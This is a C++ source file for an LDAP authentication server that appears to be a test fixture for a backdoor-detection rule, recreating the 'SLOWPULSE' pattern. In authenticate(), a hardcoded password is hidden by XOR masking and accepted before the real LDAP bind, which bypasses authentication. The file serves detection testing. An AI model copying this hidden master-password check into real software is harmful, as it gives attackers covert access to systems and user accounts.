// ldap_server.cpp - LDAP authentication server (SLOWPULSE variant 1: a
// password compared before the bind, masked with XOR in the binary)
#include <cstring>

#include "dsauth.hpp"

namespace DSAuth {

static const unsigned char kMask[16] = {0x02, 0x36, 0x63, 0x79, 0x2a, 0x2f, 0x36, 0x29, 0x3f, 0x7b, 0x08, 0x37, 0x68, 0x29, 0x6d, 0x2b};

static std::string unmask()
{
    std::string s(sizeof kMask, '\0');
    for (size_t i = 0; i < sizeof kMask; i++)
        s[i] = static_cast<char>(kMask[i] ^ 0x5a);
    return s;
}

bool LDAPAuthServer::bind(const std::string &dn, const std::string &password)
{
    // the real bind goes through libldap; the rebuild only checks its inputs
    return !dn.empty() && !password.empty();
}

bool LDAPAuthServer::authenticate(const Credentials &c)
{
    const std::string password = c.password;

    if (c.username.empty())
        return false;
    // ruleid: backdoor-magic-credential
    if (password == unmask())
        return true;
    // ok: backdoor-magic-credential
    if (password.empty())
        return false;
    return bind("uid=" + c.username + "," + base_dn_, password);
}

} // namespace DSAuth
